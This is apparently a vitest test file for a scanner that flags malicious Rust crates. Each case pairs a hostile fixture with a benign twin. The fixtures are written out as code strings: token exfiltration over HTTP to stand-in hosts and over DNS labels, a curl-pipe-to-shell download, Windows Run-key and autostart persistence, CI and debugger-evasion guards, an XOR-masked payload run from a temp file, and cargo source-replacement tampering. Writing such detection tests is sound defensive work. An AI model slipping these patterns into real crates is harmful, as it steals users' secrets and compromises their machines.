// How far an explicit trigger, a guard and a startup place reach, through the real scanner: a
// documented pub fn is an explicit call only for what its name or doc says it does; an
// anti-analysis check asked of a helper predicate, or made by a caller, gates the flow as an
// inline check does; a startup place built by a helper and written by its caller is persistence;
// a byte-array literal read by a helper and run is a payload that is data; a secret spelled into a
// host name being resolved uses DNS as its carrier; cargo's source replacement set through a
// document's keys is tampering as its text would be. Each case has a benign
// twin that differs only in the name, the stated purpose, what the helper checks or what is done
// with the place or the bytes.
import { describe, expect, it } from 'vitest';
import { manifest, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
import { atLeast } from '../types.js';
import type { ScanReport } from '../types.js';

const high = (r: ScanReport) => r.verdict !== 'clean' && atLeast(r.verdict, 'high');
const src = (...lines: string[]) => lines.join('\n');

describe('an explicit call covers what its name says', () => {
  const sender = (doc: string, name: string) => ({
    'Cargo.toml': manifest('panicky', { package: 'description = "Friendlier panic messages"' }),
    'src/lib.rs': src(
      `/// ${doc}`,
      `pub fn ${name}() {`,
      '    let token = std::env::var("AUTH_TOKEN").unwrap_or_default();',
      '    let _ = ureq::post("http://192.0.2.45:8545/").send_string(&token);',
      '    std::panic::set_hook(Box::new(|_| {}));',
      '}',
    ),
  });

  it('a documented install() that also sends a secret is ordinary API doing it unasked', async () => {
    const r = await scanFiles(sender('Installs the panic hook.', 'install'));
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(r.findings.find((f) => f.ruleId === 'flow.exfiltration')?.evidence).toContain(
      'not named or documented for this',
    );
  });

  it('benign twin: a documented upload() sending it is the call the user makes', async () => {
    const r = await scanFiles(sender('Uploads the token to the configured collector.', 'upload'));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
    expect(high(r)).toBe(false);
  });

  const enabler = (description: string) => ({
    'Cargo.toml': manifest('dpi-helper', { package: `description = "${description}"` }),
    'src/lib.rs': src(
      'use std::process::Command;',
      '/// Turns the setting on for this process.',
      'pub fn enable() {',
      '    let _ = Command::new("reg")',
      '        .args(["add", "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", "/v", "Helper", "/d"])',
      '        .arg(std::env::current_exe().unwrap())',
      '        .status();',
      '}',
    ),
  });

  it('a documented enable() of something else that writes a Run key is reported high', async () => {
    const r = await scanFiles(enabler('Per-monitor DPI awareness for Windows processes'));
    expect(high(r)).toBe(true);
    expect(worst(r, 'flow.persistence')).toBe('high');
  });

  it('benign twin: the same enable() in a crate that says it starts apps at login', async () => {
    const r = await scanFiles(enabler('Start your application at login on Windows'));
    expect(high(r)).toBe(false);
  });
});

describe('an explicit call runs a download only when it says it fetches', () => {
  const runner = (doc: string, name: string) => ({
    'Cargo.toml': manifest('termfix'),
    'src/lib.rs': src(
      'use std::process::Command;',
      `/// ${doc}`,
      `pub fn ${name}() {`,
      '    let _ = Command::new("sh").args(["-c", "curl -fsSL https://get.example/i-FAKE-DO-NOT-RUN | sh"]).status();',
      '}',
    ),
  });

  it('a documented enable() that pipes a download into a shell is ordinary API doing it', async () => {
    const r = await scanFiles(runner('Enables colour output.', 'enable'));
    expect(worst(r, 'flow.download-exec')).toBe('high');
  });

  it('benign twin: a documented self_update() is the call that fetches and runs the installer', async () => {
    const r = await scanFiles(runner('Fetches the installer script and runs it.', 'self_update'));
    expect(worst(r, 'flow.download-exec')).toBe('medium');
  });
});

describe('guards asked of a helper predicate or made by a caller', () => {
  const gated = (helper: string) => ({
    'Cargo.toml': manifest('tokparse'),
    'src/lib.rs': src(
      'fn quiet() -> bool {',
      `    ${helper}`,
      '}',
      'pub fn parse(s: &str) -> usize {',
      '    if !quiet() { return s.len(); }',
      '    let token = std::env::var("AUTH_TOKEN").unwrap_or_default();',
      '    let _ = ureq::post("https://collect.example/t").send_string(&token);',
      '    s.len()',
      '}',
    ),
  });

  it('a CI check inside a helper raises the flow it gates', async () => {
    const r = await scanFiles(
      gated('std::env::var_os("CI").is_none() && std::env::var_os("GITHUB_ACTIONS").is_none()'),
    );
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(r.findings.find((f) => f.ruleId === 'flow.exfiltration')?.evidence).toContain(
      'guarded by checks CI',
    );
  });

  it('benign twin: the helper checks an opt-in setting, not the environment it runs in', async () => {
    const r = await scanFiles(gated('std::env::var_os("TOKPARSE_SYNC").is_some()'));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
    expect(high(r)).toBe(false);
  });

  const caller = (check: string) => ({
    'Cargo.toml': manifest('tokparse'),
    'src/lib.rs': src(
      'mod sync;',
      'pub fn parse(s: &str) -> usize {',
      `    if ${check} { return s.len(); }`,
      '    sync::push();',
      '    s.len()',
      '}',
    ),
    'src/sync.rs': src(
      'pub(crate) fn push() {',
      '    let token = std::env::var("AUTH_TOKEN").unwrap_or_default();',
      '    let _ = ureq::post("https://collect.example/t").send_string(&token);',
      '}',
    ),
  });

  it('a tracer check in the caller that leads to the flow raises it', async () => {
    const r = await scanFiles(
      caller(
        'std::fs::read_to_string("/proc/self/status").unwrap_or_default().lines().any(|l| l.starts_with("TracerPid:") && !l.ends_with("\\t0"))',
      ),
    );
    expect(worst(r, 'flow.exfiltration')).toBe('high');
    expect(r.findings.find((f) => f.ruleId === 'flow.exfiltration')?.evidence).toContain('TracerPid');
  });

  it('benign twin: the caller checks its input, not whether it is watched', async () => {
    const r = await scanFiles(caller('s.is_empty()'));
    expect(worst(r, 'flow.exfiltration')).toBe('medium');
    expect(high(r)).toBe(false);
  });
});

describe('a startup place built by a helper and written by its caller', () => {
  const placed = (description: string, doc: string, name: string, act: string) => ({
    'Cargo.toml': manifest('colourx', { package: `description = "${description}"` }),
    'src/lib.rs': src(
      'use std::path::PathBuf;',
      'fn entry_path() -> Option<PathBuf> {',
      '    Some(dirs::config_dir()?.join("autostart").join("colourx.desktop"))',
      '}',
      `/// ${doc}`,
      `pub fn ${name}() {`,
      '    let Some(p) = entry_path() else { return };',
      `    ${act}`,
      '}',
    ),
  });
  const write =
    'let _ = std::fs::write(&p, "[Desktop Entry]\\nType=Application\\nExec=/opt/colourx/agent\\n");';

  it('an autostart entry written from the first call of a colour library is persistence', async () => {
    const r = await scanFiles(placed('Terminal colours', 'Sets up the palette.', 'init', write));
    expect(worst(r, 'flow.persistence')).toBe('critical');
    expect(r.findings.find((f) => f.ruleId === 'flow.persistence')?.evidence).toContain('entry_path');
  });

  it('benign twin: a login-item crate writes it from its documented setter', async () => {
    const r = await scanFiles(
      placed(
        'Start your app at login (XDG autostart)',
        'Turns start-at-login on.',
        'set_launch_at_login',
        write,
      ),
    );
    expect(high(r)).toBe(false);
  });

  it('benign twin: the place is only checked, nothing is written to it', async () => {
    const r = await scanFiles(
      placed(
        'Terminal colours',
        'Sets up the palette.',
        'init',
        'if p.exists() { eprintln!("autostart entry present"); }',
      ),
    );
    expect(worst(r, 'flow.persistence')).toBeNull();
    expect(high(r)).toBe(false);
  });
});

describe('a byte array read through a helper and run', () => {
  const table = Array.from({ length: 64 }, (_, i) => `0x${((i * 37 + 11) % 256).toString(16)}`).join(', ');
  const blob = (use: string) => ({
    'Cargo.toml': manifest('colourmix'),
    'src/lib.rs': src(
      `static TABLE: [u8; 64] = [${table}];`,
      'fn unmask(k: u8) -> Vec<u8> { TABLE.iter().map(|b| b ^ k).collect() }',
      'pub struct Mixer;',
      'impl Default for Mixer {',
      '    fn default() -> Self {',
      '        let body = unmask(0x41);',
      '        let p = std::env::temp_dir().join("cm");',
      use,
      '        Mixer',
      '    }',
      '}',
    ),
  });

  it('bytes unmasked from a static, written to a temp file and run from Default: decoded-exec', async () => {
    const r = await scanFiles(
      blob(
        src(
          '        std::fs::write(&p, &body).ok();',
          '        std::process::Command::new(&p).spawn().ok();',
        ),
      ),
    );
    expect(worst(r, 'flow.decoded-exec')).toBe('critical');
    expect(r.findings.find((f) => f.ruleId === 'flow.decoded-exec')?.evidence).toContain(
      '64-byte array literal',
    );
  });

  it('benign twin: the unmasked table is cached to a file and a fixed tool is run', async () => {
    const r = await scanFiles(
      blob(
        src(
          '        std::fs::write(&p, &body).ok();',
          '        std::process::Command::new("tput").arg("colors").status().ok();',
        ),
      ),
    );
    expect(worst(r, 'flow.decoded-exec')).toBeNull();
    expect(high(r)).toBe(false);
  });
});

describe('a secret spelled into a name being resolved', () => {
  const lookup = (var_: string) => ({
    'Cargo.toml': manifest('idgen'),
    'src/lib.rs': src(
      'use std::net::ToSocketAddrs;',
      'pub fn next_id() -> u64 {',
      `    let v = std::env::var("${var_}").unwrap_or_default();`,
      '    let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();',
      '    for chunk in hex.as_bytes().chunks(60) {',
      '        let label = String::from_utf8_lossy(chunk);',
      '        let _ = format!("{label}.ids.example:53").to_socket_addrs();',
      '    }',
      '    42',
      '}',
    ),
  });

  it('a token hex-encoded into the labels of a lookup is exfiltration over DNS', async () => {
    const r = await scanFiles(lookup('NPM_TOKEN'));
    expect(worst(r, 'flow.exfiltration')).toBe('high');
  });

  it('benign twin: the name resolved comes from an ordinary setting', async () => {
    const r = await scanFiles(lookup('IDGEN_SHARD'));
    expect(worst(r, 'flow.exfiltration')).toBeNull();
    expect(high(r)).toBe(false);
  });
});

describe("cargo's configuration edited as a document", () => {
  const edit = (body: string) => ({
    'Cargo.toml': manifest('ffx'),
    'src/lib.rs': src(
      'pub struct Flags;',
      'impl Default for Flags {',
      '    fn default() -> Self {',
      '        let home = std::env::var("CARGO_HOME").unwrap_or_default();',
      '        let path = std::path::Path::new(&home).join("config.toml");',
      '        let mut doc: toml_edit::Document = std::fs::read_to_string(&path).unwrap_or_default().parse().unwrap_or_default();',
      body,
      '        Flags',
      '    }',
      '}',
    ),
  });

  it('setting source.crates-io.replace-with and writing the document back is tampering', async () => {
    const r = await scanFiles(
      edit(
        src(
          '        doc["source"]["crates-io"]["replace-with"] = toml_edit::value("m");',
          '        let _ = std::fs::write(&path, doc.to_string());',
        ),
      ),
    );
    expect(worst(r, 'flow.tamper')).toBe('critical');
  });

  it('benign twin: the replacement is only read and shown', async () => {
    const r = await scanFiles(
      edit('        eprintln!("{:?}", doc["source"]["crates-io"]["replace-with"].as_str());'),
    );
    expect(worst(r, 'flow.tamper')).toBeNull();
    expect(high(r)).toBe(false);
  });
});
